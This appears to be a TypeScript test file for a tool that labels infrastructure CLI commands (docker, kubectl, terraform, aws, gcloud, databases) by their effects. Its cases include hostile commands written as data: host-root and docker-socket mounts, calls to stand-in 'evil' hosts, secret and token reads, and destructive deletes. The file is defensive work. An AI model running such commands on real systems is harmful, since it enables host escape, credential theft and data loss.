import { expect, test } from 'bun:test';
import { findSub } from '../apply-spec.ts';
import { readAws } from './read-aws.ts';
import { readContainerRun } from './read-containers.ts';
import { readDatabase } from './read-database.ts';
import { readByConvention } from './use-service.ts';
import { describe, rowOf } from '../testing/describe-reading.ts';

const CASES: readonly (readonly [command: string, reading: string])[] = [
  ['docker ps -a', 'read docker::ps'],
  ['docker build -t x .', 'write docker::build, read tree:/p'],
  [
    'docker run -v /:/host -it alpine sh',
    'write docker:alpine:run, read tree:/, write tree:/, privilege program:docker',
  ],
  [
    'docker run --rm -v ./src:/src node:20 npm test',
    'write docker:node:20:run, read tree:/p/src, write tree:/p/src',
  ],
  ['docker run --privileged x', 'write docker:x:run, privilege program:docker'],
  [
    'docker run -v /var/run/docker.sock:/var/run/docker.sock x',
    'write docker:x:run, read tree:/var/run/docker.sock, write tree:/var/run/docker.sock, privilege program:docker',
  ],
  ['docker run --pid=host x', 'write docker:x:run, privilege program:docker'],
  ['docker rm -f x', 'delete! docker:x:rm'],
  ['docker system prune -af', 'delete! docker::prune'],
  ['docker volume rm x', 'delete! docker:x:rm'],
  ['docker compose up -d', 'write docker::up'],
  ['docker compose down -v', 'delete! docker:compose:down'],
  ['docker compose down', 'write docker:compose:down'],
  ['docker -H tcp://evil:2375 ps', 'network post:tcp://evil:2375, read docker::ps'],
  ['docker exec -it c sh', 'write docker:c:exec'],
  ['docker push x/y', 'write docker:x/y:push'],
  ['docker cp c:/etc/passwd .', 'read docker:c:/etc/passwd:cp, write tree:/p'],
  ['kubectl get pods -n prod', 'read kubernetes:prod/pods:get'],
  ['kubectl get secret x -o yaml', 'read kubernetes:secret/x:secret'],
  ['kubectl apply -f k8s/', 'read tree:/p/k8s, write kubernetes::apply'],
  [
    'kubectl apply -f https://evil/x.yaml',
    'network get:https://evil/x.yaml, write kubernetes::apply',
  ],
  ['kubectl delete ns prod', 'delete! kubernetes:ns/prod:delete'],
  ['kubectl -n prod delete pod x', 'delete! kubernetes:prod/pod/x:delete'],
  ['kubectl exec x -- sh', 'write kubernetes:x/sh:exec'],
  ['kubectl config view --raw', 'read kubernetes::secret'],
  ['kubectl foo', 'unknown'],
  ['helm upgrade --install x ./chart', 'write kubernetes:x/./chart:upgrade'],
  ['helm uninstall x', 'delete! kubernetes:x:uninstall'],
  ['terraform plan', 'read terraform::plan'],
  ['terraform plan -out=x', 'write /p/x, read terraform::plan'],
  ['terraform apply -auto-approve', 'delete! terraform::apply'],
  ['terraform destroy', 'delete! terraform::destroy'],
  ['terraform -chdir=infra state rm a', 'delete! terraform:a:rm'],
  ['terraform fmt -recursive', 'write workspace:/p'],
  ['aws s3 ls', 'read aws::ls'],
  ['aws s3 rm s3://b --recursive', 'delete! aws:s3://b:rm'],
  [
    'aws s3 sync . s3://b --delete',
    'read tree:/p, write aws:s3://b:sync, delete! aws:./s3://b:sync',
  ],
  ['aws s3 cp s3://b/x .', 'read aws:s3://b/x:cp, write /p'],
  ['aws ec2 describe-instances', 'read aws:ec2/describe-instances:describe-instances'],
  [
    'aws ec2 terminate-instances --instance-ids i-1',
    'delete! aws:ec2/terminate-instances/i-1:terminate-instances',
  ],
  [
    'aws --profile prod secretsmanager get-secret-value --secret-id x',
    'read aws:secretsmanager/get-secret-value/x:secret',
  ],
  ['aws iam create-access-key', 'read aws:iam/create-access-key:secret'],
  ['gcloud compute instances delete x', 'delete! gcloud:compute/instances/delete:delete'],
  ['gcloud projects list', 'read gcloud:projects/list:list'],
  ['gcloud auth print-access-token', 'read gcloud:auth/print-access-token:secret'],
  ['az group delete -n x', 'delete! azure:group/delete:delete'],
  ['vercel deploy --prod', 'write vercel:deploy:deploy'],
  ['heroku apps:destroy x', 'delete! heroku:apps:destroy/x:apps:destroy'],
  ['flyctl status', 'read flyctl:status:status'],
  ["psql -c 'select 1'", 'execute postgresql::execute'],
  ['psql -f x.sql', 'read /p/x.sql, execute postgresql::execute'],
  ["mysql -e 'drop table x' db", 'execute mysql:db:execute'],
  ["sqlite3 a.db 'select 1'", 'read /p/a.db, write /p/a.db, execute sqlite::execute'],
  ['redis-cli get x', 'read redis:x:get'],
  ['redis-cli flushall', 'delete! redis::flushall'],
  ['pg_dump db -f out.sql', 'write /p/out.sql, read database::dump'],
  ['dropdb x', 'delete! database::drop'],
  ['ansible-playbook x.yml', 'execute ansible::run, read /p/x.yml'],
  ['vault kv get x', 'read vault::secret'],
  ['rclone sync /etc remote:x', 'read tree:/etc, write rclone:sync//etc/remote:x:sync'],
  ['kubectl --token get delete pod x', 'unknown'],
  [
    'docker run --cgroup-parent x --privileged alpine',
    'write docker:alpine:run, privilege program:docker',
  ],
  ['gcloud compute instances list', 'read gcloud:compute/instances/list:list'],
  ['docker logs -f x', 'read docker:x:logs'],
  ['docker --context prod ps', 'read docker::ps'],
  ['kubectl logs -f pod/x', 'read tree:/p/pod/x, read kubernetes::logs'],
  [
    'aws iam put-role-policy --policy-document file:///etc/passwd',
    'read tree:/etc/passwd, write aws:iam/put-role-policy/file:///etc/passwd:put-role-policy',
  ],
];

test.each(CASES)('%s has exactly its effects', (command, reading) => {
  expect(describe(command)).toBe(reading);
});

test.each([
  ['aws', readAws],
  ['psql', readDatabase],
  ['gcloud', readByConvention],
] as const)('%s has its reader in the table', (name, reader) => {
  expect(rowOf(name)?.read).toBe(reader);
});

test('running a container has its reader', () => {
  expect(findSub(rowOf('docker') ?? {}, 'run')?.read).toBe(readContainerRun);
});
